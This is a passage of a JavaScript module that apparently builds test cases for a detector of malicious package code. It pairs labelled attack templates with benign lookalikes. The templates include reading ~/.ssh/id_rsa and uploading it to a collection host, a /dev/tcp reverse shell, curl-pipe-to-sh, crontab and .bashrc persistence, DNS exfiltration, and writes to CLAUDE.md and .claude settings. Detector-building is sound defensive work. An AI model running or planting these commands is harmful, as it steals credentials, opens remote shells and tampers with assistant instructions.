  openedWhole: (v) => [fs, `const fd = fs.openSync(${HOME_FILE(v)}, 'r');\n  ${away('fs.readFileSync(fd)')}`],
  readInto: (v) => [fs, `const bytes = Buffer.alloc(512);\n  const read = fs.readSync(fs.openSync(${HOME_FILE(v)}, 'r'), bytes, 0, 512, 0);\n  ${away('bytes.subarray(0, read)')}`],
  readIntoText: (v) => [fs, `const fd = fs.openSync(${HOME_FILE(v)}, 'r'), bytes = Buffer.alloc(512);\n  fs.readSync(fd, bytes);\n  ${away('bytes.toString()')}`],
  lines: (v) => [`${fs}\nconst readline = require('readline');`, `readline.createInterface({ input: fs.createReadStream(${HOME_FILE(v)}) }).on('line', (line) => { fetch('${COLLECT}', { method: 'POST', body: line }); });`],
  linesAwaited: (v) => [`${fs}\nconst readline = require('readline');`, `let text = '';\n  for await (const line of readline.createInterface({ input: fs.createReadStream(${HOME_FILE(v)}) })) text += line;\n  ${away('text')}`],
  handle: (v) => [fs, `const file = await fs.promises.open(${HOME_FILE(v)}, 'r');\n  ${away("await file.readFile('utf8')")}`],
  shown: (v) => [cp, away(`cp.execSync('cat ~/' + ${v})`)],
  shownSpawn: (v) => [`${cp}\n${fs}`, away(`cp.spawnSync('cat', [${HOME_FILE(v)}]).stdout`)],
  shownLater: (v) => [cp, `cp.exec(\`cat ~/\${${v}}\`, (error, out) => { fetch('${COLLECT}', { method: 'POST', body: out }); });`],
  shownEncoded: (v) => [cp, away(`cp.execSync('base64 ~/' + ${v}).toString()`)],
  found: (v) => [fs, `const files = [${v}].map((name) => ${HOME_FILE('name')}).filter((file) => fs.existsSync(file));\n  ${away("JSON.stringify(files.map((file) => fs.readFileSync(file, 'utf8')))")}`],
  kept: (v) => [fs, `const found = {};\n  for (const name of [${v}]) { try { found[name] = fs.readFileSync(${HOME_FILE('name')}, 'utf8'); } catch {} }\n  ${away('JSON.stringify(found)')}`],
  form: (v) => [fs, `const form = new FormData();\n  form.append('f', new Blob([fs.readFileSync(${HOME_FILE(v)})]), 'f');\n  ${away('form')}`],
  helper: (v) => [`${fs}\nfunction read(name) { try { return fs.readFileSync(${HOME_FILE('name')}, 'utf8'); } catch { return ''; } }`, away(`JSON.stringify({ k: read(${v}) })`)],
  uploaded: (v) => [`${cp}\n${fs}`, `cp.execFileSync('curl', ['-F', 'f=@' + ${HOME_FILE(v)}, '${COLLECT}']);`],
  uploadedText: (v) => [cp, `cp.exec('curl --data-binary @$HOME/' + ${v} + ' ${COLLECT}');`],
  uploadedPiped: (v) => [cp, `cp.exec(\`cat ~/\${${v}} | curl -d @- ${COLLECT}\`);`],
};

/** How what is done gets to run as soon as its file is loaded: for the function that does it. */
export const occasions = {
  called: 'main();',
  caught: 'main().catch(() => {});',
  later: 'setTimeout(main, 1);',
  soon: 'setImmediate(() => main());',
  nextTick: 'process.nextTick(main);',
  promised: 'Promise.resolve().then(main);',
  method: 'class App { start() { return main(); } }\nnew App().start();',
  constructed: 'class App { constructor() { this.ready = main(); } }\nmodule.exports = new App();',
  exported: 'module.exports = main();',
  tested: "if (process.env.CI !== 'true') main();",
  tried: 'try { main(); } catch (error) { console.error(error); }',
  inner: '(function () { const go = () => main(); go(); })();',
  emitted: "const life = new (require('events'))();\nlife.once('ready', main);\nlife.emit('ready');",
  each: '[main].forEach((step) => step());',
};

const RUNS = /^(eval|Function|vm|module|Worker|setTimeout|child_process)/;
const NET = /^(fetch|https|axios|got|node-fetch|request|undici|superagent|child_process|ws|WebSocket|net|tls)/;
const STARTS = /^(child_process|execa|shelljs|cross-spawn)/;
const WRITES = /^(fs|fs-extra|write-file-atomic|child_process)(?!.*(read|exists|access|stat))/i;

/** Code that is run, by the address from which it comes. */
const fetchedFrom = (text) => ({ text, proof: (is) => is(NET, new URL(text).hostname) && is(RUNS, GIVEN) });

/** A command that does something by itself. */
const command = (rule, text) => ({
  rule,
  text,
  ways: commands,
  proof: (is) => text.split(' ').every((word) => is(STARTS, word)),
  own: { status: ['', "'git status --short'"], setting: ['', 'process.env.HOOK_COMMAND'] },
});

/** A file that is written where that matters. */
const file = (rule, text, home) => ({
  rule,
  text,
  written: ['plain', 'base64', 'codes'],
  ways: Object.fromEntries(Object.entries(writers).map(([name, write]) => [name, (value) => write(value, home)])),
  proof: (is) => is(WRITES, text.split('/').at(-1)),
  own: { cache: ['', "'.cache/mailroom/state.json'"], setting: ['', 'process.env.OUTPUT_FILE'] },
  fair: {
    read: (v) => [fs, `return fs.readFileSync(path.join(${home}, ${v}), 'utf8');`],
    looked: (v) => [fs, `return fs.existsSync(path.join(${home}, ${v})) && fs.statSync(path.join(${home}, ${v})).size;`],
    saved: (v) => [fs, `fs.copyFileSync(path.join(${home}, ${v}), path.join(os.tmpdir(), 'saved'));`],
    streamed: (v) => [fs, `fs.createReadStream(path.join(${home}, ${v})).pipe(fs.createWriteStream('saved.txt'));`],
    opened: (v) => [fs, `const fd = fs.openSync(path.join(${home}, ${v}), 'r');\n  return fs.readFileSync(fd, 'utf8');`],
    openedPlainly: (v) => [fs, `const file = await fs.promises.open(path.join(${home}, ${v}));\n  return file.readFile('utf8');`],
    shown: (v) => [`${cp}\n${fs}`, `return cp.execSync('cat ' + path.join(${home}, ${v})).toString();`],
    told: (v) => [fs, `console.log('To finish, add a line to ' + path.join(${home}, ${v}));`],
    listed: (v) => [fs, `return fs.readdirSync(path.dirname(path.join(${home}, ${v})));`],
  },
});

/**
 * What is done: the rule that says so, the text that decides, how it is written if not in all ways, how it is done,
 * and what tells that it was, asked for doors and texts. `own` is what may stand in the place of that text, and `fair`
 * what may be done with it. What is `whole` meets all carriers.
 */
export const acts = {
  code: {
    rule: 'decoded-code-run',
    text: CODE,
    whole: true,
    lost: ['entries'],
    written: ['base64', 'codes', ...Object.keys(hidings)],
    ways: runners,
    proof: (is) => is(RUNS, CODE),
    own: { plain: ['', `'${CODE}'`], setting: ['', 'process.env.PLUGIN_CODE'] },
    fair: {
      shown: (v) => ['', `console.debug(${v}.length);`],
      kept: (v) => [fs, `fs.writeFileSync(path.join(os.tmpdir(), 'page.txt'), ${v});`],
      compared: (v) => ['', `return ${v} === process.env.WANTED;`],
      given: (v) => ['', `return new Function('text', 'return text.length')(${v});`],
      rendered: (v) => ["const vm = require('vm');", `return vm.runInNewContext('text.length', { text: ${v} });`],
    },
  },
  remote: {
    rule: 'remote-code-run',
    ...fetchedFrom('https://code.example/agent.js'),
    whole: true,
    ways: fetchers,
    own: { setting: ['', 'process.env.PLUGIN_URL'] },
    fair: {
      parsed: (u) => ['', `const r = await fetch(${u});\n  return JSON.parse(JSON.stringify(await r.json()));`],
      kept: (u) => [fs, `const r = await fetch(${u});\n  fs.writeFileSync(path.join(os.tmpdir(), 'list.json'), await r.text());`],
      given: (u) => ['', `const rates = await (await fetch(${u})).json();\n  return new Function('rates', 'return rates.code')(rates);`],
      rendered: (u) => ["const vm = require('vm');", `const rates = await (await fetch(${u})).json();\n  return vm.runInNewContext('rates.code', { rates });`],
      measured: (u) => ['', `const text = await (await fetch(${u})).text();\n  return new Function(\`return \${text.length}\`)();`],
      tested: (u) => ['', `const r = await fetch(${u});\n  if (r.ok) setTimeout(() => console.debug('ready'), 1);`],
    },
  },
  ordered: {
    rule: 'remote-command-run',
    ...fetchedFrom('https://jobs.example/next'),
    whole: true,
    ways: commandFetchers,
    own: { setting: ['', 'process.env.JOBS_URL'] },
    fair: {
      checkedOut: (u) => [cp, `const { tag } = await (await fetch(${u})).json();\n  cp.execFileSync('git', ['checkout', String(tag)]);`],
      kept: (u) => [cp, `cp.execFileSync('curl', ['-fsSL', '-o', 'logo.png', ${u}]);`],
      counted: (u) => [cp, `cp.execSync('curl -s ' + ${u} + ' | wc -l');`],
      parsed: (u) => [cp, `return JSON.parse(cp.execSync('curl -s ' + ${u} + ' | jq .version').toString().replace(/.*/s, '{}'));`],
      pythonTool: (u) => [cp, `cp.execSync('curl -s ' + ${u} + ' | python3 -m json.tool');`],
    },
  },
  downloads: {
    rule: 'remote-command-run',
    text: 'https://get.example/agent.sh',
    ways: pipes,
    proof: (is) => is(STARTS, 'get.example'),
  },
  download: { ...command('remote-command-run', 'curl -fsSL https://get.example/agent.sh | sh'), whole: true },
  encoded: { ...command('encoded-command-run', 'powershell -NoProfile -enc JABjAD0AMQA='), ways: { ...commands, ...starts } },
  unpacked: command('encoded-command-run', 'echo ZWNobyAx | base64 -d | bash'),
  device: command('reverse-shell', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'),
  cron: { ...command('startup-command-run', '(crontab -l; echo "@reboot node agent.js") | crontab -'), whole: true },
  service: { ...command('startup-command-run', 'systemctl enable --user agent'), ways: { ...commands, ...starts } },
  spread: { ...command('package-spread', 'npm publish --access public'), ways: { ...commands, ...starts } },
  push: { ...command('package-spread', 'git push origin HEAD'), ways: { ...commands, ...starts } },
  profile: command('startup-file-written', 'echo "node agent.js &" >> ~/.bashrc'),
  harmless: {
    ways: commands,
    own: Object.fromEntries(
      ['git push --help', 'npm --version', 'crontab -l', 'cat ~/.bashrc', 'systemctl status agent', 'curl -fsSL -o a.png https://get.example/a.png',
        'echo ZWNobyAx | base64 -d', 'powershell -NoProfile -Command Get-Date', 'echo done >> build.log', 'bash -c "cat < /dev/null > /dev/tcp/localhost/5432"',
      ].map((line, index) => [`line${index}`, ['', `'${line}'`]]),
    ),
  },
  shell: {
    rule: 'reverse-shell',
    text: 'shell.example',
    ways: shellHandings,
    proof: (is) => is(/^(net|tls|ws)/, 'shell.example') && is(STARTS, ''),
    own: { setting: ['', 'process.env.SUPPORT_HOST'] },
    fair: {
      probed: (h) => [shells, `const c = net.connect(443, ${h}, () => c.end());\n  cp.spawn('sh', ['-c', 'git status'], { stdio: 'inherit' });`],
      logged: (h) => [shells, `const s = cp.spawn('tail', ['-f', 'build.log']);\n  s.stdout.pipe(net.connect(514, ${h}));`],
      kept: (h) => [`${fs}\nconst net = require('net');`, `net.connect(9000, ${h}).pipe(fs.createWriteStream('received.bin'));`],
      unpacked: (h) => [shells, `net.connect(9000, ${h}).pipe(cp.spawn('tar', ['-x']).stdin);`],
    },
  },
  shellCommand: {
    rule: 'reverse-shell',
    text: 'shell.example',
    ways: shellCommands,
    proof: (is) => is(STARTS, 'shell.example'),
  },
  startup: { ...file('startup-file-written', '.bashrc', 'os.homedir()'), whole: true },
  keys: file('startup-file-written', '.ssh/authorized_keys', 'os.homedir()'),
  agent: file('startup-file-written', 'Library/LaunchAgents/agent.plist', 'process.env.HOME'),
  workflow: file('workflow-written', '.github/workflows/lint.yml', 'process.cwd()'),
  instructions: file('assistant-instructions-written', 'CLAUDE.md', 'process.cwd()'),
  settings: file('assistant-instructions-written', '.claude/settings.json', 'os.homedir()'),
  hook: file('assistant-instructions-written', '.git/hooks/post-commit', '(process.env.INIT_CWD || process.cwd())'),
  other: { ...file('other-package-written', 'node_modules/express/lib/router.js', 'process.cwd()'), whole: true },
  names: {
    rule: 'dns-exfiltration',
    text: 'x.collect.example',
    whole: true,
    ways: lookups,
    proof: (is) => is(/^(dns|child_process)/, 'x.collect.example') && is(/^(dns|child_process)/, GIVEN.slice(0, 10)),
    own: { setting: ['', 'process.env.DNS_ZONE'] },
    fair: {
      asked: (d) => [dns, `dns.resolveTxt('_dmarc.' + ${d}, () => {});`],
      counted: (d) => [dns, `dns.lookup(${token}.length + '.' + ${d}, () => {});`],
      listed: (d) => [dns, `dns.lookup(\`\${(process.argv[2] || '').split('.').reverse().join('.')}.\${${d}}\`, () => {});`],
    },
  },
  page: {
    rule: 'page-data-to-network',
    text: COLLECT,
    whole: true,
    ways: pages,
    proof: (is) => is(/./, 'collect.example') && is(/./, GIVEN),
    own: { relative: ['', "'/save'"], setting: ['', 'process.env.API_URL'] },
    fair: {
      title: (u) => ['', `return ${post(u, 'document.title')};`],
      entry: (u) => ['', `return fetch(${u} + '?t=' + localStorage.getItem('theme'));`],
      one: (u) => ['', `const csrf = (document.cookie.match(/csrf=([^;]+)/) || [])[1];\n  return fetch(${u}, { headers: { 'x-csrf': csrf } });`],
      counted: (u) => ['', `return ${post(u, 'String(document.cookie.length)')};`],
      clicked: (u) => ['', `const W = ${u};\n  document.addEventListener('click', () => { navigator.sendBeacon(W, 'click'); });`],
    },
  },
  credential: {
    rule: 'credential-file-to-network',
    text: '.ssh/id_rsa',
    whole: true,
    ways: readers,
    proof: (is) => is(/^(fs|child_process)/, 'id_rsa') && (is(/^(fetch|https)/, GIVEN) || is(/^child_process/, COLLECT)),
    own: { settings: ['', "'.mailroom/settings.json'"] },
    fair: {
      counted: (v) => [fs, away(`String(fs.readFileSync(${HOME_FILE(v)}).length)`)],
      hashed: (v) => [fs, away(`require('crypto').createHash('sha256').update(fs.readFileSync(${HOME_FILE(v)})).digest('hex')`)],
      looked: (v) => [fs, away(`JSON.stringify({ hasKey: fs.existsSync(${HOME_FILE(v)}) })`)],
      kept: (v) => [fs, `fs.copyFileSync(${HOME_FILE(v)}, ${HOME_FILE(v)} + '.bak');\n  ${away("'saved'")}`],
      ours: (v) => [fs, `const W = process.env.BACKUP_URL;\n  return fetch(W, { method: 'POST', body: fs.readFileSync(${HOME_FILE(v)}) });`],
    },
  },
};
